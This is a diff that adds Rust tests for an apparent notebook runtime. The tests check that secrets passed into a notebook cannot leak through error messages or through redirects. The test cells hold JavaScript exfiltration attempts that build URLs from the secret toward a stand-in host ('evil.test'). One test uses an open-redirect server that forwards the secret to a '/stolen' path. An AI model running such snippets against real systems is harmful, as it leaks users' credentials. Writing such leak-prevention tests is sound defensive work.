@@ -473,3 +473,61 @@ fn a_url_with_a_password_is_not_fetched() {
         }
     }
 }
+
+/// A notebook with a client at `base`, and a prompt that a variable answers: the notebook gets a handle of the secret.
+fn with_a_secret(base: &str, secret: &str, cells: &[String]) -> Outcome {
+    let first = "API.createClient('client', 'api.raml'); KEY = prompt('key'); undefined".to_owned();
+    let cells: Vec<&String> = std::iter::once(&first).chain(cells).collect();
+    Case::cells(cells)
+        .file("api.raml", format!("#%RAML 0.8\ntitle: t\nbaseUri: {base}\n/a:\n  get:\n"))
+        .file("apinb.toml", "[inputs]\nKEY = { env = \"THE_SECRET\" }\n")
+        .env("THE_SECRET", secret)
+        .run()
+}
+
+#[test]
+fn errors_do_not_tell_a_notebook_its_secrets() {
+    // A secret that could be a name of a host: letter by letter, so that it is not redacted in the result.
+    for secret in ["abc123secret456", "AbC123Secret456"] {
+        let errors = [
+            "fetch('https://' + KEY + '.evil.test/').catch((error) => [...error.message].join(' '))",
+            "fetch('https://' + KEY).catch((error) => [...error.message].join(' '))",
+            "x = new XMLHttpRequest(); x.open('GET', 'https://' + KEY + '.evil.test/', false); \
+             try { x.send() } catch (error) { [...error.message].join(' ') }",
+            "try { load('https://' + KEY + '.evil.test/a.js') } catch (error) { [...error.message, ...error.help ?? ''].join(' ') }",
+            "try { API.createClient('x', 'https://' + KEY + '.evil.test/a.raml') } catch (error) { [...error.message, ...error.help ?? ''].join(' ') }",
+            "try { client('/a').get({}, { baseUri: 'https://' + KEY + '.evil.test' }) } catch (error) { [...error.message].join(' ') }",
+        ];
+        let outcome = with_a_secret("https://api.test", secret, &errors.map(str::to_owned));
+        outcome.exit(3);
+        let spelled: String = secret.to_lowercase().chars().flat_map(|letter| [letter, ' ']).collect();
+        for number in 1..=errors.len() {
+            let result = outcome.cell(number).cell["result_full"].to_string().to_lowercase();
+            assert!(result.contains("m a y   n o t   b e"), "{number}: {result}");
+            assert!(!result.contains(spelled.trim()), "{number}: {result}");
+        }
+    }
+}
+
+#[test]
+fn a_redirect_that_has_a_secret_in_it_is_not_followed() {
+    let other = Server::start();
+    let to = other.url("/stolen");
+    // An open redirect: it goes wherever its caller wants.
+    let api = Server::with(move |request| {
+        let query = request.url.split_once('?').map_or("", |(_, query)| query);
+        Answer::Reply(302, vec![("Location".to_owned(), format!("{to}?{query}"))], Vec::new())
+    });
+    let cells = [
+        format!("fetch('{}?next=' + KEY).catch((error) => error.name)", api.url("/go")),
+        format!("client.a.get({{ next: KEY }}, {{ baseUri: '{}' }})", api.url("")),
+        format!("(await fetch('{}?next=nothing')).status", api.url("/go")),
+    ];
+    let outcome = with_a_secret(&api.url(""), "a secret/77777+", &cells);
+    outcome.exit(3);
+    outcome.cell(1).is("\"PolicyError\"");
+    outcome.cell(2).fails("the secret `KEY` may not be sent to `http://127.0.0.1");
+    outcome.cell(3).is("404");
+    let urls: Vec<String> = other.requests().into_iter().map(|request| request.url).collect();
+    assert_eq!(urls, ["/stolen?next=nothing"]);
+}
